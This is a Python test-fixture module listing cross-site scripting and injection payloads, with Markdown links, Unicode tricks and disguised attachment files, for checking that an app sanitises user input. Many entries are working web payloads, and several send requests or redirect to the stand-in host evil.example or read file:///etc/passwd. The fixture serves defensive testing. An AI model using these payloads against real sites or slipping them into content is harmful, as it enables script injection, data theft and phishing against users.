"""What an attacker would write wherever something may be written. Whatever of it is obeyed calls `harmed()`.

`LINES` fit into a name or a title, `MARKDOWN` into a body, `FILES` are attachments with what they hold.
"""

from __future__ import annotations

HOST = "evil.example"
_ELSEWHERE = f"https://{HOST}/taken"

SCRIPTS = [
    "<script>harmed()</script>",
    "<SCRIPT SRC=//evil.example/taken.js></SCRIPT>",
    "<scr<script>ipt>harmed()</scr</script>ipt>",
    "<script\x0d\x0a>harmed()</script\x0d\x0a>",
    "<svg><script href=data:,harmed() /></svg>",
    "</title><script>harmed()</script>",
    "</textarea><script>harmed()</script>",
    '"><script>harmed()</script>',
    "'-harmed()-'",
    "${harmed()}",
    "{{constructor.constructor('harmed()')()}}",
    "{@html '<img src=x onerror=harmed()>'}",
    "&lt;script&gt;harmed()&lt;/script&gt;",
    "&#60;script&#62;harmed()&#60;/script&#62;",
    "\\u003cscript\\u003eharmed()\\u003c/script\\u003e",
]
HANDLERS = [
    "<img src=x onerror=harmed()>",
    "<img src=`x` onerror=harmed()//>",
    "<svg/onload=harmed()>",
    "<body onload=harmed()>",
    "<details open ontoggle=harmed()>x</details>",
    "<input autofocus onfocus=harmed()>",
    "<video><source onerror=harmed()></video>",
    "<marquee onstart=harmed()>x</marquee>",
    "<p onpointerenter=harmed() onclick=harmed()>x</p>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=harmed()>x</p>",
    "<button popovertarget=x>y</button><div popover id=x onbeforetoggle=harmed()>z</div>",
    '" onmouseover="harmed()" x="',
    "' autofocus onfocus='harmed()",
]
EMBEDDED = [
    "<iframe srcdoc='<script>parent.harmed()</script>'></iframe>",
    "<iframe src=javascript:parent.harmed()></iframe>",
    "<object data=javascript:harmed()></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFybWVkKCk8L3NjcmlwdD4=>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    "<meta http-equiv=refresh content='0;url=javascript:harmed()'>",
    f"<base href={_ELSEWHERE}/>",
    f"<link rel=stylesheet href={_ELSEWHERE}.css>",
    f"<link rel=prefetch href={_ELSEWHERE}>",
    f"<form action={_ELSEWHERE}><button>Allow once</button><input name=a></form>",
    "<form id=app><input name=attributes><input name=children></form>",
    "<img name=body><img name=cookie><a id=defaultView><a id=defaultView name=document>",
    f"<img src={_ELSEWHERE}.png srcset='{_ELSEWHERE}2.png 2x'>",
    f"<audio src={_ELSEWHERE}.mp3 autoplay></audio><video poster={_ELSEWHERE}.jpg></video>",
    f"<svg><image href={_ELSEWHERE}.svg /><use href={_ELSEWHERE}.svg#x /></svg>",
    "<svg><a xlink:href=javascript:harmed()><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:harmed() /></svg>",
    "<svg><set attributeName=onmouseover to=harmed() /></svg>",
    "<template><script>harmed()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=harmed()></template>",
]
STYLES = [
    "<style>*{display:none!important}body{background:url(https://evil.example/taken)}</style>",
    "<style>@import 'https://evil.example/taken.css';</style>",
    "<p style='position:fixed;inset:0;z-index:9999;background:red'>x</p>",
    "<div style=background-image:url(https://evil.example/taken)>x</div>",
    "<p class='primary' id='app' role='alert' aria-label='Allow once'>x</p>",
]
# Markup that a parser changes when it reads again what it wrote.
MUTATING = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=harmed()&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=harmed()>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=harmed() src>'>",
    "<noscript><p title='</noscript><img src=x onerror=harmed()>'>",
    "<math><annotation-xml encoding=text/html><style><img title='</style><img src onerror=harmed()>'>",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=harmed()>--></foreignObject></svg>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=harmed()>'>",
    "<listing>&lt;img src=x onerror=harmed()&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=harmed()>'></xmp>",
    "<![CDATA[<img src=x onerror=harmed()>]]>",
    "<!--><img src=x onerror=harmed()>-->",
    "<?xml-stylesheet href='javascript:harmed()'?><img src=x onerror=harmed()>",
]
LINKS = [
    "[x](javascript:harmed())",
    "[x](JaVaScRiPt:harmed())",
    "[x](java\tscript:harmed())",
    "[x](&#106;avascript:harmed())",
    "[x](javascript&colon;harmed())",
    "[x](\x01javascript:harmed())",
    "[x](vbscript:harmed())",
    "[x](data:text/html;base64,PHNjcmlwdD5oYXJtZWQoKTwvc2NyaXB0Pg==)",
    "[x](blob:null/harmed)",
    "[x](file:///etc/passwd)",
    "[x](/auth/google/login?next=https://evil.example)",
    "<javascript:harmed()>",
    "[x]: javascript:harmed()\n\n[x]",
    "![x](javascript:harmed())",
    f"![x]({_ELSEWHERE}.png)",
    f'![x]({_ELSEWHERE}.png" onerror="harmed())',
    '![" onerror="harmed()](x)',
    '[x](https://example.org "\' onmouseover=harmed()")',
    '[<img src=x onerror="harmed()">](https://example.org)',
    '`<img src=x onerror=harmed()>` and\n```html\n<script>harmed()</script>\n```\n~~~" onload=harmed()\nx\n~~~',
    "| <img src=x onerror=harmed()> | b |\n|-|-|\n| <script>harmed()</script> | [x](javascript:harmed()) |",
    "- [ ] <input type=checkbox onclick=harmed()>",
    "# </h1><script>harmed()</script>",
    "> <blockquote onclick=harmed()>",
]
HIDING = [
    "zero\u200bwidth\u200c and\u2060 joined\ufeff",
    "tagged \U000e0041\U000e0042 text",
    "שלום abc עולם 123 مرحبا",
    "ab" + "\u0301" * 200 + "cd",
    "\U0001f469\u200d\U0001f4bb" * 40,
]
# A line may not have these, a body may.
REORDERING = [
    "harmless\u202egnp.exe\u202c",
    "\u2066\u2067isolated\u2069 and left open \u2068",
    "nul \x00 bell \x07 escape \x1b[31mred\x1b[0m delete \x7f",
]
LONG = ["W" * 200, "ж" * 200, "漢" * 200, "a/" * 100, "." * 200]

_EVERYWHERE = SCRIPTS + HANDLERS + EMBEDDED + STYLES + MUTATING
LINES = [one for one in _EVERYWHERE + HIDING + LONG if "\x0d" not in one]
MARKDOWN = _EVERYWHERE + LINKS + HIDING + REORDERING + [one * 40 for one in LONG] + ["<p>" * 400, "> " * 300 + "x"]

_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="4000" height="4000" '
    'onload="parent.harmed();harmed()"><script>parent.harmed();harmed()</script>'
    f'<image href="{_ELSEWHERE}.png" width="9" height="9"/><foreignObject width="9" height="9">'
    '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.harmed()"></iframe></foreignObject>'
    f'<style>@import "{_ELSEWHERE}.css";</style><a xlink:href="javascript:harmed()"><rect width="9" height="9"/></a>'
    "</svg>"
)
_HTML = (
    "<!doctype html><script>parent.harmed();harmed()</script>"
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'><img src=x onerror=parent.harmed()>"
)
FILES = [
    ("drawing.svg", "image/svg+xml", _SVG),
    ("drawing.png", "image/png", _SVG),
    ("page.html", "text/html", _HTML),
    ("page.txt", "text/plain", _HTML),
    ("page.xhtml", "application/xhtml+xml", f'<html xmlns="http://www.w3.org/1999/xhtml">{_HTML}</html>'),
    ("page.xml", "text/xml", '<?xml-stylesheet href="javascript:harmed()"?><x/>'),
    ("script.js", "text/javascript", "harmed()"),
    ("document.pdf", "application/pdf", "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
    ("music.mp3", "audio/mpeg", _HTML),
    ("film.mp4", "video/mp4", _HTML),
    ("data.json", "application/json", '{"a": "<img src=x onerror=harmed()>"}'),
    ("notes.md", "text/markdown", "\n\n".join(MARKDOWN)),
]
FILE_NAMES = [name for name in LINES if "/" not in name and "\\" not in name]
